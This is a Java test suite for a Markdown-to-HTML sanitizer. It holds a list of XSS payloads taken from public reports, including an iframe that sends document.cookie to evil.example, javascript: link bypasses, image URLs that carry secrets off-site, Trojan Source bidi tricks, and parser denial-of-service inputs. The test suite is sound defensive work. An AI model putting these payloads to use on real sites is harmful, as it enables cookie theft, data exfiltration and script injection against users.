package dev.charm.ops.dashboard.text;

import static dev.charm.ops.dashboard.text.HarmlessHtml.assertHarmless;
import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Optional;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/** What comes of Markdown that means harm. */
class SafeMarkdownTest {

  /** Shapes of public reports; each would do something as HTML, or in a laxer renderer. */
  static final List<String> PAYLOADS =
      List.of(
          // Helicone 5589, LightRAG GHSA-xpjq-3w4w-w5wr
          "<iframe srcdoc=\"<script>fetch('//evil.example/' + document.cookie)</script>\"></iframe>",
          "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
          // lumen 1760, FastChat 88
          "<script>alert(1)</script>",
          "<img src=x onerror=\"alert(1)\">",
          "<svg/onload=alert(1)>",
          "[click](javascript:alert(1))",
          "<img src='' onerror=javascript:alert(1)\n/>",
          // links by other ways
          "[click](JaVaScRiPt:alert(1))",
          "[click](java\nscript:alert(1))",
          "[click](java&#10;script:alert(1))",
          "[click](&#x6A;avascript:alert(1))",
          "[click](\u0001javascript:alert(1))",
          "[click](<javascript:alert(1)>)",
          "[click](vbscript:msgbox(1))",
          "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
          "[click](data:image/svg+xml;base64,PHN2Zy8+)",
          "[click](//evil.example)",
          "[click](/api/v1/pairs)",
          "[click](\\\\evil.example)",
          "[click](file:///etc/passwd)",
          "[click](http:javascript:alert(1))",
          "[a]\n\n[a]: javascript:alert(1) \"t\"",
          "<javascript:alert(1)>",
          "<http://e.example/\"onmouseover=\"alert(1)>",
          "<https://e.example/'><script>alert(1)</script>",
          // out of an attribute
          "[a](https://e.example/\"onmouseover=\"alert(1))",
          "[a](https://e.example/ \"x\\\" onmouseover=\\\"alert(1)\")",
          "[a](https://e.example/ '\"><script>alert(1)</script>')",
          "![\"><script>alert(1)</script>](https://e.example/\"><script>)",
          "![x\" onerror=\"alert(1)](https://e.example/a.png)",
          "``` \"><script>alert(1)</script>\ncode\n```",
          "```js\" onclick=\"alert(1)\ncode\n```",
          "# <img src=x onerror=alert(1)>",
          "| a<script> | b |\n|:-:|--|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
          "> - 1. <style>*{display:none}</style>",
          "<base href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
          "<form action=//evil.example><input name=q><button formaction=javascript:alert(1)>",
          "<a href=https://e.example ping=//evil.example style=position:fixed>x</a>",
          "<div hx-get=/events hx-trigger=load>x</div>",
          "<!--><script>alert(1)</script>-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?php echo 1 ?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>",
          "</div></article></main><script>alert(1)</script>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          // OWASP LLM05: an image that carries a secret to another site
          "![](https://evil.example/?secret=1)",
          "[![x](https://evil.example/a.png)](https://evil.example/b)",
          "![x][r]\n\n[r]: https://evil.example/a.png",
          // Trojan Source: CVE-2021-42574
          "access = \"user\u202E \u2066// admin\u2069 \u2066\"",
          "[https://good.example\u202E](https://e.example/\u202Egood)");

  private static Optional<String> html(String markdown) {
    return SafeMarkdown.html(new ShownText(VisibleText.of(markdown), markdown.length(), true));
  }

  @ParameterizedTest
  @FieldSource("PAYLOADS")
  void shouldLeaveNothingThatDoesAnythingByItself(String payload) {
    String html = html(payload).orElseThrow();
    assertHarmless(html);
    assertThat(html).doesNotContain("\u202E", "\u2066", "\0");
  }

  @Test
  void shouldShowHtmlAsTheTextThatItIs() {
    assertThat(html("<script>alert(1)</script>").orElseThrow().strip())
        .isEqualTo("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>");
    assertThat(html("<think>\n**so**\n</think>").orElseThrow())
        .contains("&lt;think&gt;", "<strong>so</strong>", "&lt;/think&gt;");
  }

  @Test
  void shouldLinkToOtherSitesOnlyAndTellThemNothing() {
    assertThat(html("[a](https://e.example/x?y=1&z) <https://f.example/>").orElseThrow())
        .contains(
            "<a href=\"https://e.example/x?y=1&amp;z\" rel=\"noopener noreferrer nofollow external\">a</a>",
            ">https://f.example/</a>");
    assertThat(html("[a](javascript:x) [b](/pairs)").orElseThrow())
        .contains("<span class=\"no-link\">a</span>", "<span class=\"no-link\">b</span>");
  }

  @Test
  void shouldShowAnImageAsALinkThatNobodyLoads() {
    assertThat(html("![a *cat*](https://e.example/cat.png)").orElseThrow())
        .contains(">image: a cat</a>")
        .doesNotContain("<img");
    assertThat(html("[![cat](https://e.example/a)](https://e.example/b)").orElseThrow())
        .containsOnlyOnce("<a ")
        .contains("href=\"https://e.example/b\"");
  }

  @Test
  void shouldRenderWhatModelsWrite() {
    assertThat(
            html("# Title\n\n1. *one*\n2. `two < 3`\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n```js\nx\n```")
                .orElseThrow())
        .contains(
            "<p class=\"heading level-1\">Title</p>",
            "<em>one</em>",
            "<code>two &lt; 3</code>",
            "<td align=\"right\">1</td>",
            "<pre><code>x\n</code></pre>");
  }

  /** Shapes that take parsers long or down: groovy 2711, md4c 73 and 345, marked 1471. */
  static final List<String> HEAVY =
      List.of(
          "*".repeat(25_000) + "a" + "*".repeat(24_999),
          "_".repeat(20_000) + "a" + "_".repeat(20_000),
          "*a **a ".repeat(3_500) + " a** a*".repeat(3_500),
          ">".repeat(50_000),
          "> ".repeat(25_000) + "a",
          "- ".repeat(20_000) + "a",
          "1. ".repeat(15_000) + "a",
          nestedLists(),
          "[".repeat(50_000),
          "[".repeat(25_000) + "]".repeat(25_000),
          "![[]()".repeat(8_000),
          "[a](<".repeat(10_000),
          "a <![CDATA[".repeat(4_500),
          "a <?".repeat(12_000),
          "a <!A".repeat(10_000),
          "<".repeat(50_000),
          "`".repeat(50_000),
          growingBackticks(),
          "x|".repeat(5_000) + "\n" + "-|".repeat(5_000) + "\n" + "x\n".repeat(15_000),
          "x\n" + "-|".repeat(127) + "\n" + "x\n".repeat(24_000),
          "[x]: https://e.example/" + "a".repeat(1_900) + "\n\n" + "[x] ".repeat(1_900),
          "a".repeat(2_000_000));

  private static String nestedLists() {
    StringBuilder lists = new StringBuilder();
    for (int i = 0; i < 300; i++) {
      lists.append(" ".repeat(2 * i)).append("- a\n");
    }
    return lists.substring(0, 50_000);
  }

  private static String growingBackticks() {
    StringBuilder ticks = new StringBuilder();
    for (int i = 0; ticks.length() < 49_000; i++) {
      ticks.append("e").append("`".repeat(i));
    }
    return ticks.toString();
  }

  @ParameterizedTest
  @FieldSource("HEAVY")
  void shouldComeToAnEndWithLittleHtmlOrNoneWhateverItIsGiven(String markdown) {
    Optional<String> html = html(markdown);
    html.ifPresent(HarmlessHtml::assertHarmless);
    assertThat(html.orElse("")).hasSizeLessThan(1_000_001);
  }

  @Property(tries = 2000)
  void shouldLeaveNothingOfWhateverOneMakesUp(@ForAll("hostile") List<String> pieces) {
    html(String.join("", pieces)).ifPresent(HarmlessHtml::assertHarmless);
  }

  @Provide
  Arbitrary<List<String>> hostile() {
    return Arbitraries.of(
            "<",
            ">",
            "\"",
            "'",
            "&",
            "&#x22;",
            "&lt;",
            "[",
            "]",
            "(",
            ")",
            "!",
            "`",
            "```",
            "\n",
            "\n\n",
            "    ",
            "> ",
            "- ",
            "1. ",
            "# ",
            "|",
            "|-|-|\n",
            "*",
            "**",
            "_",
            "\\",
            " ",
            "=",
            "javascript:",
            "https://e.example/",
            "http://",
            "data:text/html,",
            "mailto:a@b",
            "script",
            "img src=x onerror=alert(1)",
            "a href=",
            "a",
            "b c",
            "\u202E",
            "\u0000",
            "[r]: ",
            "<https://e.example>",
            "é😀",
            ":",
            "/",
            "\t",
            "\r")
        .list()
        .ofMaxSize(40);
  }
}
